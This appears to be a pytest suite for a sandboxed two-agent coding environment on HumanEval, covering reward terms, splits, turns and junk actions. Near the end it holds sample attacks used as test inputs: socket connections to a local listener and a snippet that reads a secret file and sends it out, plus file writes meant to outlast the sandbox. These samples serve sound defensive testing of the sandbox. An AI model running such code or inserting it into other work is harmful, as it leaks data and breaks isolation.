"""textzoo/Code-v0: hand-computed reward terms, splits, determinism, turns and bad actions."""

import json
import os
import time

import features
import pytest
from conftest import wait_until
from pettingzoo.test import parallel_api_test

from textzoo.envs import code_v0, make
from textzoo.envs.code_v0 import WEIGHTS, CodeEnv, extract_code, load_problems, score_batch
from textzoo.errors import EnvError
from textzoo.sandbox import SandboxLimits, isolation_report

LIMITS = SandboxLimits(timeout_s=3.0, cpu_s=2, test_timeout_s=1.0)
LIMITS_NONE = SandboxLimits(timeout_s=3.0, cpu_s=2, test_timeout_s=1.0, isolation=())
TOY = [
    {
        "task_id": "toy/0",
        "prompt": 'from typing import List\n\n\ndef add(a: int, b: int) -> int:\n    """Add two numbers."""\n',
        "entry_point": "add",
        "test": "METADATA = {}\n\ndef check(candidate):\n    assert candidate(1, 2) == 3\n    x = 5\n"
        "    assert candidate(x, 0) == 5\n    assert True\n"
        "    for i in range(3):\n        assert candidate(i, i) == 2 * i\n",
        "canonical_solution": "    return a + b\n",
    }
]

AUX = "def aux(a, b):\n    return abs(a - b)\n"
CLOSE_MAIN = """```python
from typing import List

def has_close_elements(numbers: List[float], threshold: float) -> bool:
    for i, a in enumerate(numbers):
        for b in numbers[i + 1:]:
            if aux(a, b) < threshold:
                return True
    return False
```"""


def _team(terms):
    return sum(WEIGHTS[k] * terms[k] for k in WEIGHTS)


def test_humaneval_loads_with_split_tests():
    problems = load_problems()
    assert len(problems) == 164
    assert problems[0].task_id == "HumanEval/0" and len(problems[0].tests) == 7
    assert all(p.tests for p in problems)


def test_toy_tests_are_split_per_assert():
    (p,) = load_problems(TOY)
    # `x = 5` is setup of the second test; `assert True` is skipped; the for loop is one test
    assert len(p.tests) == 3
    assert p.preamble.strip() == "from typing import List"


def test_perfect_pair_scores_one():
    p = load_problems()[0]
    (s,) = score_batch([p], [AUX], [CLOSE_MAIN], LIMITS)
    assert s.terms == {
        "helper_defined": 1.0,
        "main_defined": 1.0,
        "parses": 1.0,
        "tests": 1.0,
        "uses_helper": 1.0,
        "solved": 1.0,
    }
    assert s.team == pytest.approx(1.0) and s.own == {"helper": pytest.approx(1.0), "main": pytest.approx(1.0)}


def test_canonical_solution_passes_everything_without_helper():
    p = load_problems()[0]
    main = p.prompt + p.canonical_solution
    (s,) = score_batch([p], [""], [main], LIMITS)
    assert s.terms == {
        "helper_defined": 0.0,
        "main_defined": 1.0,
        "parses": 1.0,
        "tests": 1.0,
        "uses_helper": 0.0,
        "solved": 1.0,
    }
    assert s.team == pytest.approx(0.8)
    assert s.own["helper"] == pytest.approx((0.1 + 0.6) / 0.8)
    assert s.own["main"] == pytest.approx((0.1 + 0.1 + 0.6) / 0.9)


def test_wrong_solution_gets_partial_credit():
    p = load_problems()[0]
    # always True: the 7 asserts expect True, False, True, False, True, True, False -> 4/7
    main = "def has_close_elements(numbers, threshold):\n    return True\n"
    (s,) = score_batch([p], [AUX], [main], LIMITS)
    assert s.terms["tests"] == pytest.approx(4 / 7)
    assert s.terms["uses_helper"] == 0.0 and s.terms["solved"] == 0.0  # solved: every test, a diagnostic
    assert s.team == pytest.approx(0.1 + 0.1 + 0.1 + 0.6 * 4 / 7)
    assert "4/7 tests passed" in s.feedback and "AssertionError" in s.feedback


def test_toy_partial_and_helper_call():
    (p,) = load_problems(TOY)
    main = "def add(a, b):\n    return aux(a, b)\n"
    helper = "def aux(a, b):\n    return a * b\n"  # 1*2 != 3; 5*0 != 5; i*i == 2i only for i in {0, 2} -> loop fails
    (s,) = score_batch([p], [helper], [main], LIMITS)
    assert s.terms == {
        "helper_defined": 1.0,
        "main_defined": 1.0,
        "parses": 1.0,
        "tests": 0.0,
        "uses_helper": 1.0,
        "solved": 0.0,
    }
    helper = "def aux(a, b):\n    return 0 if (a, b) == (1, 2) else a + b\n"  # fails only the first test
    (s,) = score_batch([p], [helper], [main], LIMITS)
    assert s.terms["tests"] == pytest.approx(2 / 3)
    assert s.team == pytest.approx(0.4 + 0.6 * 2 / 3)


def _count_sandbox_programs(monkeypatch) -> list:
    """A list that collects every program the task sends to the sandbox (which still runs them)."""
    ran = []

    def counting(programs, *args, **kwargs):
        ran.extend(programs)
        return real(programs, *args, **kwargs)

    real = code_v0.run_many
    monkeypatch.setattr(code_v0, "run_many", counting)
    return ran


def test_non_compiling_code_skips_the_sandbox(monkeypatch):
    p = load_problems()[0]
    ran = _count_sandbox_programs(monkeypatch)
    (s,) = score_batch([p], ["lorem ipsum ((("], [CLOSE_MAIN], LIMITS)
    assert ran == [] and s.result is None
    assert s.terms == {
        "helper_defined": 0.0,
        "main_defined": 1.0,
        "parses": 0.0,
        "tests": 0.0,
        "uses_helper": 0.0,
        "solved": 0.0,
    }
    assert any("does not compile" in n for n in s.notes["helper"])
    (s,) = score_batch([p], ["x = 1"], ["return 1"], LIMITS)  # parses but does not compile
    assert s.terms["parses"] == 0.0 and s.result is None


def test_undefined_entry_point_skips_the_sandbox():
    p = load_problems()[0]
    (s,) = score_batch([p], [AUX], ["print('hello')"], LIMITS)
    assert s.result is None and s.terms["parses"] == 1.0 and s.terms["tests"] == 0.0
    assert any("not defined" in n for n in s.notes["main"])


def test_score_batch_checks_lengths_and_keeps_order():
    problems = load_problems()[:3]
    mains = [p.prompt + p.canonical_solution for p in problems]
    mains[1] = "def nope(): pass"
    scores = score_batch(problems, [""] * 3, mains, LIMITS, workers=2)
    assert [s.terms["tests"] for s in scores] == [1.0, 0.0, 1.0]
    assert [s.terms["solved"] for s in scores] == [1.0, 0.0, 1.0]
    with pytest.raises(EnvError, match="as many"):
        score_batch(problems, [""], mains)


def test_extract_code():
    assert extract_code("Here:\n```python\nx = 1\n```\nand\n```\ny = 2\n```") == "x = 1\n\ny = 2"
    assert extract_code("```py\nz = 3\n") == "z = 3"
    assert extract_code("plain = 1") == "plain = 1"


def test_env_step_matches_score_batch():
    env = CodeEnv(split="all", sandbox_limits=LIMITS)
    obs, infos = env.reset(options={"index": 0})
    assert "has_close_elements" in obs["main"] and "`aux`" in obs["helper"] and infos["main"]["item"] == 0
    _, rew, term, trunc, infos = env.step({"helper": AUX, "main": CLOSE_MAIN})
    assert rew == {"helper": pytest.approx(1.0), "main": pytest.approx(1.0)}
    assert all(term.values()) and not any(trunc.values())
    assert infos["helper"]["reward_terms"]["own"] == pytest.approx(1.0)
    assert infos["main"]["task_id"] == "HumanEval/0"


def test_splits_and_determinism():
    train, ev = CodeEnv(split="train"), CodeEnv(split="eval")
    assert (train.num_items(), ev.num_items()) == (132, 32)
    assert not {p.task_id for p in train.problems} & {p.task_id for p in ev.problems}
    assert ev.problems[0].task_id == "HumanEval/4"
    a, b = CodeEnv(), CodeEnv()
    assert a.reset(seed=7)[0] == b.reset(seed=7)[0]
    assert a.reset(options={"index": 5})[0] == b.reset(seed=123, options={"index": 5})[0]
    assert a.problem.task_id == "HumanEval/6"  # train item 5 skips HumanEval/4


def test_bad_arguments_raise_env_error(tmp_path):
    missing = tmp_path / "nope.jsonl"
    with pytest.raises(EnvError, match="nope.jsonl"):
        CodeEnv(dataset=str(missing))
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps({"task_id": "x", "prompt": "p"}) + "\n")
    with pytest.raises(EnvError, match="entry_point"):
        CodeEnv(dataset=str(bad), split="all")
    with pytest.raises(EnvError, match="turns"):
        CodeEnv(turns=3)
    with pytest.raises(EnvError, match="split"):
        CodeEnv(split="test")


def test_dataset_file(tmp_path):
    path = tmp_path / "toy.jsonl"
    path.write_text(json.dumps(TOY[0]) + "\n")
    env = make("textzoo/Code-v0", dataset=str(path), split="all", sandbox_limits=LIMITS)
    env.reset(options={"index": 0})
    _, rew, *_ = env.step({"helper": "", "main": "def add(a, b):\n    return a + b"})
    assert rew["main"] == pytest.approx(0.1 + 0.1 + 0.6)


def test_two_turns_carry_feedback():
    env = CodeEnv(split="all", turns=2, sandbox_limits=LIMITS)
    env.reset(options={"index": 0})
    main = "def has_close_elements(numbers, threshold):\n    return True\n"
    obs, rew, term, _, _ = env.step({"helper": AUX, "main": main})
    assert not any(term.values())
    for agent in ("helper", "main"):
        assert "4/7 tests passed" in obs[agent] and "return True" in obs[agent]
    obs, rew, term, _, _ = env.step({"helper": AUX, "main": CLOSE_MAIN})
    assert all(term.values()) and rew["main"] == pytest.approx(1.0)


@pytest.mark.parametrize(
    "action",
    ["", "x" * (1 << 20), "∂ƒ©˙∆˚¬ 漢字 🙂", "\x00\x01\x1b[31m\x7f", None, 12345],
    ids=["empty", "1MB", "non-ascii", "control", "none", "int"],
)
def test_any_action_is_safe(action):
    env = CodeEnv(sandbox_limits=LIMITS)
    env.reset(seed=0)
    _, rew, term, _, infos = env.step({"helper": action, "main": action})
    assert 0.0 <= rew["main"] <= 0.2 and all(term.values())
    assert infos["main"]["notes"]


def test_random_actions_are_cheap(monkeypatch):
    env = CodeEnv(sandbox_limits=LIMITS)
    env.reset(seed=0)
    space = env.action_space("main")
    space.seed(0)
    actions = [{a: space.sample() for a in env.possible_agents} for _ in range(30)]  # sampling is the slow part
    ran = _count_sandbox_programs(monkeypatch)
    for act in actions:
        env.reset(seed=1)
        env.step(act)
    assert ran == []  # garbage never reaches the sandbox (what makes a step cheap: ~2 ms)


def test_parallel_api():
    parallel_api_test(CodeEnv(sandbox_limits=LIMITS), num_cycles=50)


# ---- the sandbox, seen through the task -------------------------------------------------------
ATTACKS = {
    "connect": "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n",
    "tmp": "open('/tmp/{marker}', 'w').write('x')\n",
    "shm": "open('/dev/shm/{marker}', 'w').write('x')\n",
    "exfiltrate": "import socket\ndata = open({secret!r}).read()\n"
    "socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(data.encode())\n",
}


def _two_turn_step(main: str):
    env = make("textzoo/Code-v0", dataset=TOY, split="all", turns=2, sandbox_limits=LIMITS)
    env.reset(options={"index": 0})
    t = time.monotonic()
    obs, rew, *_ = env.step({"helper": "def aux(a, b):\n    return a + b\n", "main": main})
    return obs["main"], time.monotonic() - t


def _isolating(attack: str) -> bool:
    """Whether this machine gives the sandbox a layer that stops `attack` (see textzoo.sandbox)."""
    report = isolation_report(LIMITS)
    have = set(report.mechanisms)
    network = "netns" in have or "seccomp" in have or ("landlock" in have and report.landlock_abi >= 4)
    files = "mountns" in have or "landlock" in have
    return {"connect": network, "exfiltrate": network and files, "tmp": files, "shm": files}[attack]


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_model_code_cannot_reach_the_network_or_leave_files(attack, listener, world_readable):
    features.need("sandbox", _isolating(attack), f"no layer against {attack} here: {isolation_report(LIMITS).missing}")
    port, received = listener
    secret = world_readable
    marker = f"textzoo-code-v0-{os.getpid()}-{attack}"
    # the attack runs at the top level of main's code, after the entry point is defined
    attack_code = ATTACKS[attack].format(port=port, marker=marker, secret=str(secret))
    main = "def add(a, b):\n    return aux(a, b)\n" + attack_code
    feedback, _ = _two_turn_step(main)
    time.sleep(0.3)  # grace for a late connection to show up: an absence cannot be waited for
    assert "3/3 tests passed" in feedback  # the program did run
    assert received == []
    assert not os.path.exists(f"/tmp/{marker}") and not os.path.exists(f"/dev/shm/{marker}")
    if attack in ("connect", "exfiltrate"):
        assert "Running the code raised" in feedback  # the attack failed inside it
    else:  # the write may succeed, into the program's own tmpfs: the next program must not see it
        check = "".join(f"assert not os.path.exists('{d}/{marker}')\n" for d in ("/tmp", "/dev/shm"))
        check = "import os\n" + check
        feedback, _ = _two_turn_step(check + "def add(a, b):\n    return aux(a, b)\n")
        assert "3/3 tests passed" in feedback and "Running the code raised" not in feedback


def test_the_attacks_do_work_without_isolation(listener):
    # the positive control: the same connection gets through when the sandbox isolates nothing
    port, received = listener
    main = "def add(a, b):\n    return aux(a, b)\n" + ATTACKS["connect"].format(port=port)
    env = make("textzoo/Code-v0", dataset=TOY, split="all", turns=2, sandbox_limits=LIMITS_NONE)
    env.reset(options={"index": 0})
    obs, *_ = env.step({"helper": "def aux(a, b):\n    return a + b\n", "main": main})
    wait_until(lambda: received)  # the listener thread records it a moment later
    assert received == [b"leak"] and "Running the code raised" not in obs["main"]


def test_a_sleeping_program_takes_its_time():
    feedback, seconds = _two_turn_step("import time\ntime.sleep(0.6)\ndef add(a, b):\n    return aux(a, b)\n")
    assert seconds >= 0.6 and "3/3 tests passed" in feedback


def test_standard_library_imports_do_not_cost_the_reward():
    # HumanEval/140's canonical solution scores 1.0 with ordinary modules imported first
    problem = next(p for p in load_problems() if p.task_id == "HumanEval/140")
    main = "import textwrap, unicodedata, socket, importlib\n" + problem.prompt + problem.canonical_solution
    (s,) = score_batch([problem], [""], [main], LIMITS)
    assert s.terms["tests"] == 1.0 and s.result.source_error is None
